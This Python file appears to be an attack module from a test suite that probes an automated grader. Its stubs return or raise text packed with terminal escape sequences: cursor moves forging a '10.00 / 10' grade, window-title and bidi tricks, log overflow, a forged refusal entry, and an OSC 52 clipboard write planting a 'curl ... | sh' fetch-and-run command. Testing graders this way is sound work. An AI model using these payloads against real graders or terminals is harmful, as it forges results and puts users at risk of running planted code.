"""Attack (rag4): print through the grader. Every unfinished function answers with text a terminal acts on:
a carriage return and cursor moves that write a forged "rag4 10.00 / 10" over the grades table's real line, a
window title (OSC 0), a clipboard write (OSC 52), bidi controls that reorder what a line seems to say, a NUL,
hidden text (SGR 8), and 100,000 characters more. The text comes as the message of an error whose class and
function carry escapes too (the report names both), as a returned value, and as a refusal the lab adds to the
worker's list (which the report's flags quote). Shown as it is, any of it forges a grade or overflows a log;
the calls still fail, so the lab earns nothing either way."""

import base64

from kit import stubs, worker_module

FORGED = "\r\x1b[2K\x1b[1A\x1b[2K  rag4       10.00 / 10  \x1b[1B"
TITLE = "\x1b]0;all tests passed\x07"
CLIPBOARD = "\x1b]52;c;" + base64.b64encode(b"curl -s example.invalid | sh\n").decode() + "\x07"
BIDI = "\u202e01 / 00.01 4gar\u202c \u2066\u2069\u200b\u200f\ufeff"
ESCAPES = FORGED + TITLE + CLIPBOARD + BIDI + "\x00\x1b[8m" + "x" * 100_000 + "\x1b[0m"
# An error class and a function named with escapes: the report says what was raised, and where.
ESCAPING_ERROR = type("Escaping\x1b]0;title\x07Error\u202e", (RuntimeError,), {})


def escaping_function(message: str):
    """A function whose name (in a traceback's `where`) is a cursor move and a bidi override."""
    def raising(*args, **kwargs):
        raise ESCAPING_ERROR(message)

    raising.__code__ = raising.__code__.replace(co_name="\x1b[2J\u202ewindows")
    return raising


def refuse_falsely() -> None:
    """Add a refusal of the lab's own making to the worker's list, which the report's flags quote."""
    refused = getattr(worker_module(), "refused", None)
    if isinstance(refused, list):
        refused.append("open " + ESCAPES[:2000] + TITLE + "\u202e")


def attack(lab: dict) -> None:
    calls = [0]
    raising = escaping_function(ESCAPES)

    def answering(*args, **kwargs):
        calls[0] += 1
        if calls[0] == 3:  # not while the lab is imported, which would fail every call with this alone
            refuse_falsely()
        if calls[0] % 2:
            return raising(*args, **kwargs)
        return [ESCAPES, ESCAPES]  # a list of texts where chunks are due: the check quotes what came back

    for key in stubs(lab):
        lab[key] = answering
